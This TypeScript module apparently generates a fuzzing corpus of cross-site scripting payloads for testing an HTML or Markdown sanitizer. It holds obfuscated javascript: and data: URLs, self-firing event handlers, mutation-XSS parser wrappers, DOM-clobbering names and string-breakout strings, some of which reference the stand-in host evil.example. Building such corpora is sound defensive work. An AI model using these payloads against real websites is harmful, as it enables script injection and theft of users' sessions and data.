/** Words of the languages that a browser reads, from which texts are made that could become code. `RUN` is the code. */

/** How code is spelled where an address is read. */
const ADDRESSES = [
  ...['javascript:RUN', 'JaVaScRiPt:RUN', 'java\tscript:RUN', 'java\nscript:RUN', '\u0001javascript:RUN'],
  ...['&#106;avascript:RUN', '&#x6A;avascript&colon;RUN', 'javascript&NewLine;:RUN', '&#0000106avascript:RUN'],
  ...['\u00a0javascript:RUN', '\u2028javascript:RUN', 'javascript\0:RUN', '%6Aavascript:RUN', '\\6A avascript:RUN'],
  ...['javascript://%0aRUN', 'javascript:/*--></script>*/RUN', 'feed:javascript:RUN', 'view-source:javascript:RUN'],
  ...['data:text/html,<script>RUN</script>', 'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4='],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>', 'data:,RUN', 'blob:null/RUN'],
  ...['vbscript:RUN', 'livescript:RUN', 'mocha:RUN', 'jar:https://evil.example/a.jar!/x', '//evil.example/RUN'],
]

/** Attributes that hold an address, by their element. */
const ADDRESSED = [
  ...['a href', 'a ping', 'area href', 'base href', 'link rel=stylesheet href', 'link rel=import href'],
  ...['link rel=preload as=script href', 'img src', 'img srcset', 'img longdesc', 'img usemap', 'source srcset'],
  ...['video src', 'video poster', 'audio src', 'track src', 'input type=image src', 'iframe src', 'frame src'],
  ...['embed src', 'object data', 'applet code', 'form action', 'button formaction', 'input formaction', 'script src'],
  ...['body background', 'table background', 'td background', 'blockquote cite', 'q cite', 'ins cite', 'html manifest'],
  ...['meta http-equiv=refresh content="0;url="', 'svg><a xlink:href', 'svg><use href', 'svg><image xlink:href'],
  ...['svg><animate attributeName=href to', 'svg><set attributeName=xlink:href to', 'svg><feImage href'],
  ...['svg><script href', 'math href', 'math><mtext xlink:href', 'math><maction actiontype=statusline xlink:href'],
]

/** Handlers, by elements that fire them without a reader. */
const HANDLERS = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'body onpageshow',
    'video src=x onerror',
    'audio src=x onerror',
  ],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'a id=x tabindex=1 onfocus'],
  ...['details open ontoggle', 'div popover ontoggle', 'dialog open onclose', 'marquee onstart', 'iframe onload'],
  ...['style onload', 'link rel=stylesheet href=x onerror', 'script src=x onerror', 'object data=x onerror'],
  ...['svg><animate onbegin', 'svg><set onbegin', 'svg><image href=x onerror', 'svg><style onload', 'math onclick'],
  ...['p style=animation-name:x onanimationstart', 'p oncontentvisibilityautostatechange', 'p onpointerrawupdate'],
  ...['p ONCLICK', 'p onclick\t', 'p/onclick', 'p\fonclick', 'p x"onclick', 'p \u0000onclick', 'p on\u0000click'],
]

const QUOTES: [string, string][] = [
  ['"', '"'],
  ["'", "'"],
  ['', ''],
  ['`', '`'],
  ['&quot;', '&quot;'],
]

/** What makes a parser read the same text as something else the second time, around a tag. */
const AROUND: [string, string][] = [
  ...[
    ['', ''],
    ['<svg><style>', '</style></svg>'],
    ['<svg><title>', ''],
    ['<svg><desc>', ''],
  ],
  ...[
    ['<math><mtext><table><mglyph><style><!--</style>', ''],
    ['<svg></p><style><a id="</style>', '">'],
  ],
  ...[
    ['<form><math><mtext></form><form><mglyph><style></math>', ''],
    ['<noscript><p title="</noscript>', '">'],
  ],
  ...[
    ['<svg><foreignObject>', '</foreignObject></svg>'],
    ['<math><annotation-xml encoding="text/html">', ''],
  ],
  ...[
    ['<select><template>', '</template></select>'],
    ['<template shadowrootmode=open>', '</template>'],
  ],
  ...[
    ['<!--><', '-->'],
    ['<!--x--!>', '-->'],
    ['<![CDATA[', ']]>'],
    ['<?', '?>'],
    ['<xmp>', '</xmp>'],
  ],
  ...[
    ['<textarea></textarea x>', ''],
    ['<title></title >', ''],
    ['<table><tr><td></table>', ''],
    ['<plaintext>', ''],
  ],
  ...[
    ['<p title="', '">'],
    ["<p title='", "'>"],
    ['<a href="x', '">'],
    ['<!doctype x [<!ENTITY y "', '">]>&y;'],
  ],
  ...[
    ['\n\n    ', '\n\n'],
    ['\n```html\n', '\n```\n'],
    ['[x](<', '>)'],
    ['![', '](x.png)'],
    [':::note\n', '\n:::\n'],
  ],
].map(([before = '', after = '']) => [before, after])

/** Names by which scripts look for what is theirs. */
const CLOBBERED = [
  ...['location', 'body', 'head', 'documentElement', 'forms', 'cookie', 'defaultView', 'children', 'attributes'],
  ...['getElementById', 'querySelector', 'createElement', 'addEventListener', 'constructor', '__proto__', 'then'],
  ...['toString', 'hasOwnProperty', 'nodeName', 'parentNode', 'ownerDocument', 'currentScript', 'baseURI', 'history'],
]

/** Ends of data in scripts, styles and formats, and what turns a text around. */
const IN_DATA = [
  ...['\u2028RUN//', '\u2029RUN//', "');RUN;//", '");RUN;//', '`+RUN+`', '$\u007bRUN}', '*/RUN/*', '\\u003cscript>RUN'],
  ...['</script\n>RUN', '</ScRiPt/x>RUN', '<!--<script>RUN', ']]>RUN', '}body{background:url(//evil.example/)}'],
  ...['\u202eRUN\u202c', '\u2066RUN\u2069', '\u200dRUN', '\ufeffRUN', '\0RUN', '\ud800RUN', '\ufffeRUN', '\u0085RUN'],
  ...['{"__proto__":{"a":"RUN"}}', '&lt;script&gt;RUN&lt;/script&gt;', '%3Cscript%3ERUN%3C/script%3E', '＜script＞RUN'],
]

/** Has no divisor in common with any of the numbers of words. */
const PRIME = 7919

const nth = <T>(items: readonly T[], index: number): T | undefined => items[(index * PRIME) % items.length]

/** So many tags, each made of other words, and all words of each kind. */
function tags(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const [open, close] = nth(QUOTES, index) ?? ['', '']
    const isHandler = index % 2 === 0
    const begin = isHandler ? nth(HANDLERS, index / 2) : nth(ADDRESSED, (index - 1) / 2)
    const value = isHandler ? 'RUN' : nth(ADDRESSES, index)
    const [before, after] = nth(AROUND, index + Math.floor(index / AROUND.length)) ?? ['', '']
    return `${before}<${begin}=${open}${value}${close}>x</${begin?.split(/\W/, 1)[0]}>${after}`
  })
}

/** @param count how many tags */
export const textsOfGrammar = (count: number): string[] => [
  ...tags(count),
  ...ADDRESSES.flatMap((each) => [`[x](${each})`, `![x](<${each}>)`, `<${each}>`, `[x]\n\n[x]: <${each}> "RUN"\n`]),
  ...CLOBBERED.flatMap((name) => [`<a id=${name}><a id=${name} name=x href=javascript:RUN>`, `## x {#${name}}`]),
  ...CLOBBERED.map((name) => `<form id=${name}><input name=${name}><img name=${name}>`),
  ...IN_DATA,
]
